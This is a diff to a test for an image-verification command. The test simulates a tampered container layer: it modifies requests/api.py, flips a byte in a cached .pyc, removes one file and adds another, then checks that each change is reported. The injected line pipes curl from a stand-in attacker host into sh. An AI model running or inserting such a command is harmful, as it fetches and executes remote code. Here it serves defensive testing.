@@ -1,7 +1,7 @@
 """`bakery verify --image REF`: every file of a baked image against the lock it was baked from.
 
 The tampered image is made as an attacker with push access would: the layer holding `requests`
-rebuilt with one file changed, one removed and one added, a config naming the new layer, and a
+rebuilt with a module and another's bytecode changed, one file removed and one added, a config naming the new layer, and a
 manifest pushed with the registry client.
 """
 
@@ -30,6 +30,7 @@ pytestmark = [pytest.mark.slow, pytest.mark.container]
 
 REQUESTS = ("requests==2.32.3", "markupsafe==3.0.2")
 SITE = "opt/bakery/env/lib/python3.11/site-packages"
+PYC = "requests/__pycache__/models.cpython-311.pyc"
 
 
 @dataclass(frozen=True)
@@ -79,8 +80,10 @@ def test_a_tampered_layer_fails_naming_each_file(capsys, baked, tmp_path):
     code, report = verify_json(capsys, "--image", tampered, "--lock", baked.lockfile)
     assert code == 1 and not report["ok"]
     requests = next(p for p in report["packages"] if p["package"] == "requests==2.32.3")
-    (path, why), *others = requests["modified"]
-    assert path == f"/{SITE}/requests/api.py" and "content differs" in why and not others
+    modified = dict(requests["modified"])
+    assert set(modified) == {f"/{SITE}/requests/api.py", f"/{SITE}/{PYC}"}
+    assert all(why.startswith("content differs") for why in modified.values())
+    assert any(".pyc file(s) differ" in note for note in report["notes"])
     assert requests["missing"] == [f"/{SITE}/requests/help.py"]
     assert report["unexpected"] == [f"/{SITE}/requests/evil.py"]
     assert all(p["ok"] for p in report["packages"] if p["package"] != "requests==2.32.3")
@@ -141,7 +144,8 @@ class Files:
 
 
 def push_tampered(baked: Baked, tmp_path) -> str:
-    """The baked image with `requests/api.py` changed, `help.py` gone and `evil.py` added."""
+    """The baked image with `requests/api.py` and a `.pyc` changed, `help.py` gone and `evil.py`
+    added."""
     with RegistryClient(baked.host) as client:
         manifest = ImageManifest.from_dict(
             client.get_manifest(baked.repository, baked.digest).document
@@ -161,6 +165,8 @@ def push_tampered(baked: Baked, tmp_path) -> str:
                 data = tar.extractfile(info).read() if info.isreg() else b""
                 if info.name == f"{SITE}/requests/api.py":
                     data += b"\nimport os; os.system('curl evil.example | sh')\n"
+                if info.name == f"{SITE}/{PYC}":  # Python never checks it against api.py
+                    data = data[:-1] + bytes([data[-1] ^ 1])
                 entries.append(
                     Entry.from_bytes(info.name, data, info.mode)
                     if info.isreg()
